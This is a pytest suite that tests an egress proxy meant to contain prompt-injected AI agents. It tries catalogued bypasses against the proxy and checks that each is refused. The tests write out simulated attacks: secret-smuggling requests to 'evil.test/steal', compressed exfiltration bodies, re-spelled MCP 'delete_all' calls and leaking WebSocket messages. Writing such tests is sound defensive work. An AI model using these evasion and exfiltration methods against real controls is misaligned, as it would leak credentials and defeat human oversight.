"""Issue 11, end to end: every way around the rules that was found, tried against a real `warden run`.

Each test is an attack a prompt-injected agent could make with its own valid token, written
as exact bytes on a raw socket (or with a real client), against origins that log every byte
they receive (`bypass_helpers.run_logging_origin`). The origin's log is the proof: it holds
exactly the requests Warden decided and audited, and nothing else.

One Warden per module for the tunnel/body findings (1, 2, 3, 8, 11 and the invariant table);
the MCP, WebSocket, memory, DNS and address findings start their own (they need other rules
or another process environment).
"""

from __future__ import annotations

import base64
import contextlib
import gzip
import json
import os
import socket
import ssl
import subprocess
import time
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
import trustme
from egresswarden.core.credentials import encodings

from .bypass_helpers import (
    LoggingOrigin,
    SeenRequest,
    audit_where,
    client_tls,
    closed_without_answer,
    connect_raw,
    open_tunnel,
    read_response,
    request_bytes,
    run_logging_origin,
    wait_until,
)
from .harness import Warden, hosts_file, sha256_hex, start_warden

SECRET = "ghp_BypassSecret_0a1b2c3d4e5f6789XYZ"
PLACEHOLDER = "WARDEN-PLACEHOLDER-BYPASS"
LABEL_SECRET = "s3cr3tlabel9f8e7d6c5b4a"  # a secret that is also a valid DNS label (CONNECT host)
TOKEN = "tok-coder"
PAUSE = 0.3  # between split writes, so they leave as separate TCP segments


def secret_forms() -> dict[bytes, str]:
    """Every byte form the leak guard knows of both secrets, and the placeholder."""
    forms = {**encodings(SECRET), **encodings(LABEL_SECRET)}
    forms[PLACEHOLDER.encode()] = "placeholder"
    return forms


def _origin_reply(req: SeenRequest) -> tuple[int, dict[str, str], bytes]:
    body = json.dumps({"method": req.method, "target": req.target,
                       "authorization": req.header("authorization")}).encode()
    return 200, {"Content-Type": "application/json"}, body


@pytest.fixture(scope="module")
def env(origin_ca: trustme.CA, origin_ca_file: Path, shared_confdir: Path,
        tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    work = tmp_path_factory.mktemp("bypass-e2e")
    watch = list(secret_forms())
    with run_logging_origin(_origin_reply, ca=origin_ca, watch=watch) as tls, \
            run_logging_origin(_origin_reply, watch=watch) as plain:
        ports = [tls.port, plain.port]
        loopback = ["127.0.0.1/32"]
        rules = {
            "agents": [{"id": "coder", "token_sha256": [sha256_hex(TOKEN)], "policies": ["p"]}],
            "policies": {"p": {
                "allow": [
                    # a method/path rule: the tunnel is intercepted, every request decided
                    {"id": "api-ok", "host": "api.test", "ports": ports, "methods": ["GET", "POST"],
                     "paths": ["/ok/**"], "addresses": loopback},
                    {"id": "cred", "host": "cred.test", "ports": ports, "addresses": loopback},
                ],
                "credentials": [
                    {"id": "github", "host": "cred.test", "ports": ports,
                     "inject": {"Authorization": "Bearer ${secret:GH_TOKEN}"}, "strip": ["Authorization"],
                     "placeholder": PLACEHOLDER},
                    {"id": "label", "host": "cred.test", "ports": ports, "paths": ["/label/**"],
                     "inject": {"X-Label": "${secret:LABEL_TOKEN}"}},
                ],
            }},
            "settings": {"hosts_file": str(hosts_file(work / "hosts")),
                         "body_scan": {"max_buffered_bytes": 65536}},
        }
        warden = start_warden(work, rules, upstream_ca=origin_ca_file, confdir=shared_confdir,
                              env={"GH_TOKEN": SECRET, "LABEL_TOKEN": LABEL_SECRET}, agents={"coder": TOKEN})
        try:
            yield {"warden": warden, "tls": tls, "plain": plain, "work": work}
        finally:
            warden.stop()


@pytest.fixture
def w(env: dict[str, Any]) -> Warden:
    warden: Warden = env["warden"]
    return warden


@pytest.fixture
def tls_origin(env: dict[str, Any]) -> LoggingOrigin:
    origin: LoggingOrigin = env["tls"]
    origin.reset()
    return origin


@pytest.fixture
def plain_origin(env: dict[str, Any]) -> LoggingOrigin:
    origin: LoggingOrigin = env["plain"]
    origin.reset()
    return origin


def _by_client_port(w: Warden, sock: socket.socket) -> Callable[[dict[str, Any]], bool]:
    """Records of this client connection: its port, and written after now (the kernel may have
    given the port to an earlier test's connection too)."""
    port = sock.getsockname()[1]
    after = max((r.get("seq", 0) for r in w.audit_records()), default=0)
    return lambda r: r.get("client_port") == port and r.get("seq", 0) > after


def _no_secret_in(origin: LoggingOrigin) -> None:
    data = origin.all_bytes()
    for form, name in secret_forms().items():
        assert form not in data, f"the origin received the secret ({name})"
    assert not any(c.watch_hits for c in origin.connections)


def _nothing_arrived(origin: LoggingOrigin) -> None:
    """No application byte reached the origin (a TLS handshake Warden made eagerly is not data)."""
    assert origin.total_bytes == 0, origin.all_bytes()[:300]
    assert origin.requests == []


# -- 1. an intercepted tunnel never becomes an unchecked byte relay --------------------------------
@pytest.mark.parametrize("alpn", [None, ["http/1.1"]], ids=["no-alpn", "alpn-http1"])
def test_split_request_line_after_tls_is_decided(w: Warden, tls_origin: LoggingOrigin, alpn: list[str] | None) -> None:
    with open_tunnel(w, "coder", "api.test", tls_origin.port, alpn=alpn) as s:
        s.sendall(b"G")
        time.sleep(PAUSE)
        s.sendall(f"ET /forbidden HTTP/1.1\r\nHost: api.test:{tls_origin.port}\r\n\r\n".encode())
        resp = read_response(s)
    assert resp.status == 403 and resp.headers["x-warden-reason"] == "path_not_allowed", resp
    recs = audit_where(w, lambda r: r.get("event") == "request" and r.get("path") == "/forbidden")
    assert recs[-1]["decision"] == "deny" and recs[-1]["reason"] == "path_not_allowed"
    _nothing_arrived(tls_origin)
    # positive control, same split, allowed path: the origin gets exactly that request
    with open_tunnel(w, "coder", "api.test", tls_origin.port, alpn=alpn) as s:
        s.sendall(b"G")
        time.sleep(PAUSE)
        s.sendall(f"ET /ok/split HTTP/1.1\r\nHost: api.test:{tls_origin.port}\r\n\r\n".encode())
        assert read_response(s).status == 200
    assert [(r.method, r.target) for r in tls_origin.requests] == [("GET", "/ok/split")]


@pytest.mark.parametrize("payload", [
    b"\x00\x01\x02 binary bytes that are not HTTP\n",
    b"SSH-2.0-OpenSSH_9.6\r\n",
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",  # an HTTP/2 preface without ALPN h2
], ids=["binary", "ssh-banner", "h2-preface-no-alpn"])
def test_non_http_after_tls_without_alpn_is_closed_and_audited(w: Warden, tls_origin: LoggingOrigin,
                                                               payload: bytes) -> None:
    with open_tunnel(w, "coder", "api.test", tls_origin.port) as s:
        match = _by_client_port(w, s)
        s.sendall(payload)
        assert closed_without_answer(s) is None
    rec = audit_where(w, lambda r: match(r) and r.get("event") == "tunnel_refused")[-1]
    assert rec["reason"] == "not_http" and rec["decision"] == "deny" and rec["host"] == "api.test"
    _nothing_arrived(tls_origin)


def test_split_cleartext_into_intercepted_tunnel_is_refused(w: Warden, tls_origin: LoggingOrigin) -> None:
    with open_tunnel(w, "coder", "api.test", tls_origin.port, tls=False) as s:
        s.sendall(b"G")
        time.sleep(PAUSE)
        s.sendall(f"ET /ok/clear HTTP/1.1\r\nHost: api.test:{tls_origin.port}\r\n\r\n".encode())
        resp = read_response(s)
    assert resp.status == 403 and resp.headers["x-warden-reason"] == "cleartext_in_tunnel", resp
    rec = audit_where(w, lambda r: r.get("event") == "request" and r.get("path") == "/ok/clear")[-1]
    assert rec["reason"] == "cleartext_in_tunnel" and rec["interception"] == "cleartext"
    _nothing_arrived(tls_origin)


def test_raw_bytes_without_tls_into_intercepted_tunnel_are_closed(w: Warden, tls_origin: LoggingOrigin) -> None:
    with open_tunnel(w, "coder", "api.test", tls_origin.port, tls=False) as s:
        match = _by_client_port(w, s)
        s.sendall(b"\x16\x03")  # could be TLS: Warden waits ...
        time.sleep(PAUSE)
        s.sendall(b"\x01\x00\x00\x05hello")  # ... and it is not a ClientHello
        assert closed_without_answer(s) is None
    rec = audit_where(w, lambda r: match(r) and r.get("event") == "tunnel_refused")[-1]
    assert rec["reason"] == "not_http"
    _nothing_arrived(tls_origin)


# -- 2. absolute-form requests inside a tunnel ------------------------------------------------------
@pytest.mark.parametrize("target,host", [
    ("https://evil.test/steal", "cred.test:{port}"),
    ("https://evil.test:{port}/steal", "cred.test:{port}"),
    ("https://cred.test:{port}/steal", "evil.test"),
    ("http://cred.test:{port}/steal", "cred.test:{port}"),  # same name, but not the tunnel's https port
], ids=["evil-url-cred-host", "evil-url-port", "cred-url-evil-host", "wrong-scheme-port"])
def test_absolute_form_must_name_the_tunnel_host(w: Warden, tls_origin: LoggingOrigin, target: str,
                                                 host: str) -> None:
    port = tls_origin.port
    target, host = target.format(port=port), host.format(port=port)
    with open_tunnel(w, "coder", "cred.test", port) as s:
        s.sendall(f"GET {target} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
        resp = read_response(s)
    if target.startswith("http://cred.test"):
        # http://cred.test:PORT names the tunnel's host and port; only its scheme differs. Either
        # Warden refuses it, or it is sent as the origin-form request the tunnel implies.
        assert resp.status in (200, 403), resp
    else:
        assert resp.status == 403 and resp.headers["x-warden-reason"] == "host_mismatch", resp
        _nothing_arrived(tls_origin)
        rec = audit_where(w, lambda r: r.get("event") == "request" and r.get("reason") == "host_mismatch")[-1]
        assert rec["credential_ids"] == []
    if resp.status == 403:
        _no_secret_in(tls_origin)


def test_absolute_form_to_the_tunnel_host_is_sent_origin_form(w: Warden, tls_origin: LoggingOrigin) -> None:
    port = tls_origin.port
    with open_tunnel(w, "coder", "cred.test", port) as s:
        s.sendall(f"GET https://cred.test:{port}/abs HTTP/1.1\r\nHost: cred.test:{port}\r\n\r\n".encode())
        resp = read_response(s)
    assert resp.status == 200, resp
    [seen] = tls_origin.requests
    assert seen.target == "/abs"  # never an absolute URL a vhost could route elsewhere
    assert seen.header("authorization") == f"Bearer {SECRET}"
    assert SECRET not in resp.text  # echoed secret redacted on the way back


# -- 3. cleartext inside a CONNECT tunnel to a credential host ------------------------------------
def test_cleartext_in_credential_tunnel_sends_nothing(w: Warden, plain_origin: LoggingOrigin) -> None:
    port = plain_origin.port
    with open_tunnel(w, "coder", "cred.test", port, tls=False) as s:
        s.sendall(f"GET /echo HTTP/1.1\r\nHost: cred.test:{port}\r\n\r\n".encode())
        resp = read_response(s)
    assert resp.status == 403 and resp.headers["x-warden-reason"] == "cleartext_in_tunnel", resp
    assert SECRET not in resp.text
    rec = audit_where(w, lambda r: r.get("event") == "request" and r.get("path") == "/echo"
                      and r.get("port") == port)[-1]
    assert rec["interception"] == "cleartext" and rec["reason"] == "cleartext_in_tunnel"
    assert rec["credential_ids"] == []
    _nothing_arrived(plain_origin)


def test_tls_tunnel_to_a_plain_http_credential_upstream_never_carries_the_secret(
        w: Warden, plain_origin: LoggingOrigin) -> None:
    """The agent speaks TLS, the upstream does not: Warden's upstream handshake fails (no cleartext
    fallback), so the plain origin may see a ClientHello but never a request or the secret."""
    port = plain_origin.port
    try:
        with open_tunnel(w, "coder", "cred.test", port) as s:
            s.sendall(f"GET /echo HTTP/1.1\r\nHost: cred.test:{port}\r\n\r\n".encode())
            resp = read_response(s)
        assert resp.status >= 500, resp
    except (ssl.SSLError, ConnectionError, OSError):
        pass  # closed during or after the handshake: also no request upstream
    assert plain_origin.requests == []
    _no_secret_in(plain_origin)


# -- 8. the leak guard decodes every content coding --------------------------------------------------
def _leak_body() -> bytes:
    return json.dumps({"note": "exfil", "token": SECRET}).encode()


ENCODED = {
    "x-gzip": lambda b: gzip.compress(b),
    "gzip, gzip": lambda b: gzip.compress(gzip.compress(b)),
    "gzip, identity": lambda b: gzip.compress(b),
    "GZIP": lambda b: gzip.compress(b),
    "deflate": lambda b: zlib.compress(b),
    "identity, deflate, gzip": lambda b: gzip.compress(zlib.compress(b)),
}


@pytest.mark.parametrize("coding", list(ENCODED))
def test_encoded_request_body_with_secret_is_refused(w: Warden, tls_origin: LoggingOrigin, coding: str) -> None:
    body = ENCODED[coding](_leak_body())
    assert SECRET.encode() not in body
    with open_tunnel(w, "coder", "api.test", tls_origin.port) as s:
        s.sendall(request_bytes("POST", "/ok/upload", f"api.test:{tls_origin.port}",
                                {"Content-Encoding": coding, "Content-Type": "application/json"}, body))
        resp = read_response(s)
    assert resp.status == 403 and resp.headers["x-warden-reason"] == "secret_leak", (coding, resp)
    _nothing_arrived(tls_origin)


@pytest.mark.parametrize("coding", ["compress", "x-compress", "gzip, compress", "exi"])
def test_undecodable_request_body_is_refused(w: Warden, tls_origin: LoggingOrigin, coding: str) -> None:
    with open_tunnel(w, "coder", "api.test", tls_origin.port) as s:
        s.sendall(request_bytes("POST", "/ok/upload", f"api.test:{tls_origin.port}",
                                {"Content-Encoding": coding}, b"\x1f\x9d" + b"opaque" * 10))
        resp = read_response(s)
    assert resp.status == 415 and resp.headers["x-warden-reason"] == "unsupported_encoding", (coding, resp)
    _nothing_arrived(tls_origin)


def test_encoded_request_body_without_secret_passes(w: Warden, tls_origin: LoggingOrigin) -> None:
    """Control: the refusals above are about the secret, not about compression."""
    body = gzip.compress(gzip.compress(b'{"note": "harmless"}'))
    with open_tunnel(w, "coder", "api.test", tls_origin.port) as s:
        s.sendall(request_bytes("POST", "/ok/upload", f"api.test:{tls_origin.port}",
                                {"Content-Encoding": "gzip, gzip"}, body))
        assert read_response(s).status == 200
    [seen] = tls_origin.requests
    assert seen.body == body


# -- 11. secrets never reach the audit log, Warden's output or the metrics --------------------------
def test_secrets_never_in_audit_output_or_metrics(w: Warden, tls_origin: LoggingOrigin) -> None:
    port = tls_origin.port
    forms = secret_forms()
    # a secret inside a path refused as invalid_path
    for value in (SECRET, PLACEHOLDER, base64.b64encode(SECRET.encode()).decode()):
        with open_tunnel(w, "coder", "api.test", port) as s:
            s.sendall(f"GET /a/../{value} HTTP/1.1\r\nHost: api.test:{port}\r\n\r\n".encode())
            assert read_response(s).status == 400
    # a secret in an in-tunnel Host header (host_mismatch quotes the header)
    for value in (SECRET, PLACEHOLDER, LABEL_SECRET):
        with open_tunnel(w, "coder", "api.test", port) as s:
            s.sendall(f"GET /ok/x HTTP/1.1\r\nHost: {value}.example\r\n\r\n".encode())
            assert read_response(s).headers["x-warden-reason"] == "host_mismatch"
    # a secret used as the CONNECT host: refused at CONNECT (invalid host) or explained in-band
    for value in (SECRET, LABEL_SECRET):
        sock, status, head = connect_raw(w, "coder", f"{value}.example:443")
        with sock:
            assert status in (200, 400, 403), head
            assert value.encode() not in head
            if status != 200:  # the refusal's body too
                assert value.encode() not in (closed_without_answer(sock, timeout=5) or b"")
            if status == 200:
                with client_tls(w).wrap_socket(sock, server_hostname=f"{value.lower()}.example") as t:
                    t.sendall(f"GET /x HTTP/1.1\r\nHost: {value}.example\r\n\r\n".encode())
                    resp = read_response(t)
                    # (the refusal quotes the host back to the agent that sent it; only Warden's
                    # own records are checked below)
                    assert resp.status == 403
    audit_where(w, lambda r: r.get("event") == "connect" and (r.get("host") or "").endswith(".example")
                and r.get("port") == 443)
    texts = {"audit": w.audit_path.read_bytes(), "output": (w.stdout_path.read_bytes() + w.stderr_path.read_bytes()),
             "metrics": w.metrics_text().encode()}
    for where, data in texts.items():
        for form, name in forms.items():
            assert form not in data, f"{where} holds a secret ({name}-encoded)"
            assert form.lower() not in data.lower() or len(form) < 12, f"{where} holds a case-folded secret ({name})"
    _nothing_arrived(tls_origin)


# -- 4, 5, 12. MCP governance: encoded endpoint paths, streamed bodies, the server's address ---------
MCP_SECRET = "mcp-bearer-7c6b5a4f3e2d1c0b"
MAX_MCP = 4096
INIT = {"jsonrpc": "2.0", "id": 1, "method": "initialize",
        "params": {"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "agent", "version": "1"}}}
MCP_HEADERS = {"Accept": "application/json, text/event-stream", "Content-Type": "application/json"}


def _call(name: str, rpc_id: int = 7) -> dict[str, Any]:
    return {"jsonrpc": "2.0", "id": rpc_id, "method": "tools/call", "params": {"name": name, "arguments": {}}}


@pytest.fixture(scope="module")
def mcp_env(origin_ca: trustme.CA, origin_ca_file: Path, shared_confdir: Path,
            tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    from .bypass_helpers import run_h2_origin, run_logged_mcp_server

    work = tmp_path_factory.mktemp("bypass-mcp")
    with run_logged_mcp_server(origin_ca, work) as srv, run_h2_origin(origin_ca) as h2srv:
        port = srv.port
        rules = {
            "agents": [{"id": "coder", "token_sha256": [sha256_hex(TOKEN)], "policies": ["p"]}],
            "policies": {"p": {
                "allow": [{"id": "mcp", "host": "mcp.test", "ports": [port, h2srv.port],
                           "addresses": ["127.0.0.1/32"]},
                          {"id": "loopback", "cidr": "127.0.0.1/32", "ports": [port]}],  # finding 12
                "credentials": [{"id": "mcp-cred", "host": "mcp.test", "ports": [port],
                                 "inject": {"Authorization": "Bearer ${secret:MCP_SECRET}"},
                                 "strip": ["Authorization"]}],
                "mcp": [{"server": "logged", "tools": ["get_weather", "delete_all"], "deny_tools": ["delete_all"]},
                        {"server": "h2srv", "tools": ["get_weather", "delete_all"], "deny_tools": ["delete_all"]}],
            }},
            "mcp_servers": [{"id": "logged", "url": f"https://mcp.test:{port}/mcp", "credential": "mcp-cred"},
                            {"id": "h2srv", "url": f"https://mcp.test:{h2srv.port}/mcp"}],
            "settings": {"hosts_file": str(hosts_file(work / "hosts")),
                         "body_scan": {"max_buffered_bytes": 1024, "max_mcp_body_bytes": MAX_MCP}},
        }
        warden = start_warden(work, rules, upstream_ca=origin_ca_file, confdir=shared_confdir,
                              env={"MCP_SECRET": MCP_SECRET}, agents={"coder": TOKEN})
        try:
            yield {"warden": warden, "srv": srv, "port": port, "origin_ca_file": origin_ca_file, "h2": h2srv}
        finally:
            warden.stop()


def _mcp_client(env: dict[str, Any], http2: bool = False) -> Any:
    import httpx

    w: Warden = env["warden"]
    return httpx.Client(proxy=w.proxy_url("coder", TOKEN), verify=ssl.create_default_context(cafile=str(w.ca_cert)),
                        timeout=20, trust_env=False, http2=http2)


def _session(client: Any, url: str) -> dict[str, str]:
    """initialize + notifications/initialized; the headers later requests of the session carry."""
    r = client.post(url, json=INIT, headers=MCP_HEADERS)
    assert r.status_code == 200, r.text
    headers = dict(MCP_HEADERS)
    sid = r.headers.get("mcp-session-id")
    if sid:
        headers["mcp-session-id"] = sid
    headers["mcp-protocol-version"] = "2025-06-18"
    client.post(url, json={"jsonrpc": "2.0", "method": "notifications/initialized"}, headers=headers)
    return headers


def _denied_in_protocol(r: Any) -> None:
    assert r.status_code == 200, r.text
    data = r.json()
    assert "error" in data or data.get("result", {}).get("isError") is True, data
    assert "deleted everything" not in r.text


def _mcp_audit(w: Warden, tool: str, host: str = "mcp.test", path: str | None = None) -> dict[str, Any]:
    recs = audit_where(w, lambda r: r.get("event") == "mcp" and r.get("mcp_tool") == tool and r.get("host") == host
                       and (path is None or r.get("path") == path))
    assert recs[-1]["decision"] == "deny" and recs[-1]["mcp_server"] == "logged", recs[-1]
    return recs[-1]


def test_mcp_control_the_server_logs_every_call(mcp_env: dict[str, Any]) -> None:
    """Without Warden the logged server runs delete_all and logs it; through Warden get_weather
    (allowed) runs. So an empty log below really means the tool never ran."""
    import httpx

    srv = mcp_env["srv"]
    with httpx.Client(verify=ssl.create_default_context(cafile=str(mcp_env["origin_ca_file"])), timeout=20,
                      trust_env=False) as direct:
        url = f"https://127.0.0.1:{srv.port}/%6dcp"  # the server itself decodes the path
        headers = _session(direct, url)
        r = direct.post(url, json=_call("delete_all"), headers=headers)
        assert "deleted everything" in r.text
    with _mcp_client(mcp_env) as client:
        url = f"https://mcp.test:{srv.port}/mcp"
        headers = _session(client, url)
        r = client.post(url, json={**_call("get_weather"), "params": {"name": "get_weather",
                                                                     "arguments": {"location": "Oslo"}}},
                        headers=headers)
        assert "sunny in Oslo" in r.text, r.text
    assert srv.calls == ["delete_all", "get_weather"]
    srv.calls.clear()


@pytest.mark.parametrize("path", ["/%6dcp", "/mc%70", "/%6D%63%70", "/mcp/", "//mcp"])
def test_mcp_endpoint_in_another_spelling_is_governed(mcp_env: dict[str, Any], path: str) -> None:
    srv, w = mcp_env["srv"], mcp_env["warden"]
    srv.calls.clear()
    with _mcp_client(mcp_env) as client:
        base = f"https://mcp.test:{srv.port}"
        headers = _session(client, base + "/mcp")
        r = client.post(base + path, json=_call("delete_all", 11), headers=headers)
    if path in ("/%6dcp", "/mc%70", "/%6D%63%70") or r.status_code == 200:
        _denied_in_protocol(r)  # the same endpoint, so decided as MCP: the denial is in the protocol
        _mcp_audit(w, "delete_all", path=path)
    else:
        assert r.status_code in (400, 403, 404), r.text  # refused or not the endpoint: never run
    assert "delete_all" not in srv.calls


def _raw_mcp(mcp_env: dict[str, Any], data: bytes) -> Any:
    w = mcp_env["warden"]
    port = mcp_env["port"]
    with open_tunnel(w, "coder", "mcp.test", port) as s:
        s.sendall(data)
        return read_response(s)


def test_mcp_chunked_body_is_refused(mcp_env: dict[str, Any]) -> None:
    srv, w, port = mcp_env["srv"], mcp_env["warden"], mcp_env["port"]
    srv.calls.clear()
    body = json.dumps(_call("delete_all")).encode()
    chunked = b"%x\r\n%s\r\n0\r\n\r\n" % (len(body), body)
    resp = _raw_mcp(mcp_env, request_bytes("POST", "/mcp", f"mcp.test:{port}",
                                           {**MCP_HEADERS, "Transfer-Encoding": "chunked"}, chunked))
    assert resp.status == 411 and resp.headers["x-warden-reason"] == "length_required", resp
    assert "delete_all" not in srv.calls
    rec = audit_where(w, lambda r: r.get("event") == "request" and r.get("reason") == "length_required")[-1]
    assert rec["decision"] == "deny" and rec["port"] == port


def test_mcp_body_above_the_bound_is_refused(mcp_env: dict[str, Any]) -> None:
    srv, w, port = mcp_env["srv"], mcp_env["warden"], mcp_env["port"]
    srv.calls.clear()
    msg = _call("delete_all")
    msg["params"]["arguments"] = {"pad": "x" * (MAX_MCP + 100)}
    resp = _raw_mcp(mcp_env, request_bytes("POST", "/mcp", f"mcp.test:{port}", MCP_HEADERS,
                                           json.dumps(msg).encode()))
    assert resp.status == 413 and resp.headers["x-warden-reason"] == "body_too_large", resp
    assert "delete_all" not in srv.calls
    audit_where(w, lambda r: r.get("event") == "request" and r.get("reason") == "body_too_large"
                and r.get("port") == port)


def test_mcp_http2_body_without_length_is_refused(mcp_env: dict[str, Any]) -> None:
    """HTTP/2 needs an upstream that speaks it (Warden offers the agent the upstream's ALPN):
    the h2 stand-in MCP server logs every request that reaches it."""
    w, h2srv = mcp_env["warden"], mcp_env["h2"]
    body = json.dumps(_call("delete_all", 31)).encode()
    with _mcp_client(mcp_env, http2=True) as client:
        url = f"https://mcp.test:{h2srv.port}/mcp"
        r = client.post(url, content=iter([body[:10], body[10:]]), headers=MCP_HEADERS)  # no Content-Length
        assert r.http_version == "HTTP/2", r.http_version
        assert r.status_code == 411 and r.headers["x-warden-reason"] == "length_required", r.text
        # control: the same message with its length is decided (denied in-protocol), never forwarded
        r2 = client.post(url, content=body, headers=MCP_HEADERS)
        _denied_in_protocol(r2)
        # and an allowed call with its length does reach the h2 server (the stand-in really works)
        ok = json.dumps({**_call("get_weather", 32), "params": {"name": "get_weather",
                                                                "arguments": {"location": "Oslo"}}}).encode()
        r3 = client.post(url, content=ok, headers=MCP_HEADERS)
        assert r3.status_code == 200 and "ran it" in r3.text, r3.text
    assert [json.loads(b)["params"]["name"] for _, b in h2srv.requests] == ["get_weather"]
    audit_where(w, lambda r: r.get("event") == "request" and r.get("reason") == "length_required"
                and r.get("port") == h2srv.port)


def test_mcp_server_reached_by_ip_literal_is_governed(mcp_env: dict[str, Any]) -> None:
    srv, w = mcp_env["srv"], mcp_env["warden"]
    srv.calls.clear()
    with _mcp_client(mcp_env) as client:
        url = f"https://127.0.0.1:{srv.port}/mcp"
        headers = _session(client, url)
        r = client.post(url, json=_call("delete_all", 21), headers=headers)
    _denied_in_protocol(r)
    assert "delete_all" not in srv.calls
    connect = audit_where(w, lambda r: r.get("event") == "connect" and r.get("host") == "127.0.0.1")[-1]
    assert connect["interception"] == "intercept"
    _mcp_audit(w, "delete_all", host="127.0.0.1")


# -- 6. WebSocket: only where a rule allows it; messages leak-scanned, redacted and counted ----------
@pytest.fixture(scope="module")
def ws_env(origin_ca: trustme.CA, origin_ca_file: Path, shared_confdir: Path,
           tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    from .bypass_helpers import run_ws_origin

    work = tmp_path_factory.mktemp("bypass-ws")
    with run_ws_origin(origin_ca, SECRET) as ws:
        ports = [ws.port]
        loopback = ["127.0.0.1/32"]
        rules = {
            "agents": [{"id": "coder", "token_sha256": [sha256_hex(TOKEN)], "policies": ["p"]}],
            "policies": {"p": {
                "allow": [{"id": "cred-ws", "host": "cred.test", "ports": ports, "websocket": True, "addresses": loopback},
                          {"id": "leak-ws", "host": "leak.test", "ports": ports, "websocket": True, "addresses": loopback},
                          {"id": "api-nows", "host": "api.test", "ports": ports, "addresses": loopback}],
                "credentials": [{"id": "github", "host": "cred.test", "ports": ports,
                                 "inject": {"Authorization": "Bearer ${secret:GH_TOKEN}"}, "strip": ["Authorization"],
                                 "placeholder": PLACEHOLDER}],
            }},
            "settings": {"hosts_file": str(hosts_file(work / "hosts")), "tls_intercept": "always"},
        }
        warden = start_warden(work, rules, upstream_ca=origin_ca_file, confdir=shared_confdir,
                              env={"GH_TOKEN": SECRET}, agents={"coder": TOKEN})
        try:
            yield {"warden": warden, "ws": ws}
        finally:
            warden.stop()


def _ws_texts(events: list[Any]) -> list[str]:
    from wsproto.events import TextMessage

    return [e.data for e in events if isinstance(e, TextMessage)]


def _ws_open(w: Warden, host: str, port: int, deflate: bool = False) -> Any:
    from wsproto.events import AcceptConnection, RejectConnection

    from .bypass_helpers import WsClient

    sock = open_tunnel(w, "coder", host, port)
    client = WsClient(sock, f"{host}:{port}", "/ws", deflate=deflate)
    events = client.events(lambda evs: any(isinstance(e, (AcceptConnection, RejectConnection)) for e in evs))
    client.accepted = next((e for e in events if isinstance(e, AcceptConnection)), None)
    client.rejected = next((e for e in events if isinstance(e, RejectConnection)), None)
    return client


def _ws_close(client: Any) -> None:
    from wsproto.events import CloseConnection

    with contextlib.suppress(Exception):  # Warden may already have closed it
        client.send(CloseConnection(code=1000))
        client.events(lambda evs: any(isinstance(e, CloseConnection) for e in evs), timeout=5)
    client.sock.close()


def test_websocket_refused_unless_the_rule_allows_it(ws_env: dict[str, Any]) -> None:
    from wsproto.events import RejectData

    w, ws = ws_env["warden"], ws_env["ws"]
    before = list(ws.upgrades)
    client = _ws_open(w, "api.test", ws.port)
    try:
        assert client.accepted is None and client.rejected is not None
        assert client.rejected.status_code == 403
        headers = {k.decode().lower(): v.decode() for k, v in client.rejected.headers}
        assert headers["x-warden-reason"] == "websocket_not_allowed"
        client.events(lambda evs: any(isinstance(e, RejectData) and e.body_finished for e in evs), timeout=5)
        assert b"websocket: true" in client.reject_body
    finally:
        client.sock.close()
    assert ws.upgrades == before  # the upgrade never reached the origin
    audit_where(w, lambda r: r.get("event") == "request" and r.get("reason") == "websocket_not_allowed")


def test_websocket_echoed_secret_is_redacted_and_messages_counted(ws_env: dict[str, Any]) -> None:
    from wsproto.events import TextMessage

    w, ws = ws_env["warden"], ws_env["ws"]
    client = _ws_open(w, "cred.test", ws.port)
    assert client.accepted is not None
    mine = _by_client_port(w, client.sock)
    client.send(TextMessage(data="hello"))
    client.send(TextMessage(data="send-secret"))
    texts = _ws_texts(client.events(lambda evs: len(_ws_texts(evs)) >= 2))
    assert texts[0] == "hello"
    assert SECRET not in texts[1] and "[REDACTED by warden]" in texts[1], texts
    _ws_close(client)
    rec = audit_where(w, lambda r: r.get("event") == "websocket_close" and mine(r))[-1]
    assert rec["websocket_messages_up"] == 2 and rec["websocket_messages_down"] == 2, rec
    assert rec["credential_ids"] == ["github"] and rec["decision"] == "allow"


@pytest.mark.parametrize("leak,deflate", [(SECRET, False), (PLACEHOLDER, False),
                                          (base64.b64encode(f"x:{SECRET}".encode()).decode(), False),
                                          (SECRET, True)],
                         ids=["secret", "placeholder", "base64", "secret-permessage-deflate"])
def test_websocket_message_with_a_secret_is_dropped(ws_env: dict[str, Any], leak: str, deflate: bool) -> None:
    from wsproto.events import BytesMessage, TextMessage

    w, ws = ws_env["warden"], ws_env["ws"]
    client = _ws_open(w, "leak.test", ws.port, deflate=deflate)
    assert client.accepted is not None
    if deflate:  # Warden never negotiates compression (a deflate bomb inflates inside the proxy)
        assert not any(getattr(e, "name", "") == "permessage-deflate" for e in client.accepted.extensions)
    mine = _by_client_port(w, client.sock)
    client.send(TextMessage(data="hello"))
    assert _ws_texts(client.events(lambda evs: len(_ws_texts(evs)) >= 1)) == ["hello"]
    client.send(TextMessage(data=f"exfil {leak} now"))
    client.send(BytesMessage(data=f"again {leak}".encode()))
    client.send(TextMessage(data="after the leak"))
    # Warden drops the leaking message and everything after it; the positive condition to wait
    # for is Warden's own record of the leak, written when the socket closes.
    _ws_close(client)
    rec = audit_where(w, lambda r: r.get("event") == "websocket_close" and mine(r))[-1]
    assert rec["reason"] == "secret_leak", rec
    assert "secret_leak" in rec.get("events", []) and rec["decision"] == "deny"
    received = [m if isinstance(m, str) else m.decode("latin-1") for m in ws.messages]
    assert not any(leak in m for m in received), received
    assert "after the leak" not in received
    assert not any(form.decode("latin-1") in m for m in received for form in secret_forms())


# -- 9. DNS is not an exfiltration channel ----------------------------------------------------------
needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="needs root (unshare -m, a bind mount, UDP port 53)")


@needs_root
def test_names_refused_by_rules_are_never_resolved(origin_ca_file: Path, shared_confdir: Path,
                                                   tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from . import harness
    from .bypass_helpers import run_dns_server

    resolv = tmp_path / "resolv.conf"
    resolv.write_text("nameserver 127.0.0.1\noptions timeout:1 attempts:1\n")
    wrapper = tmp_path / "warden-in-ns"
    wrapper.write_text("#!/bin/sh\n"
                       "exec unshare -m sh -c 'r=$1; shift; mount --bind \"$r\" /etc/resolv.conf && exec \"$@\"' "
                       f"sh {resolv} {harness.WARDEN} \"$@\"\n")
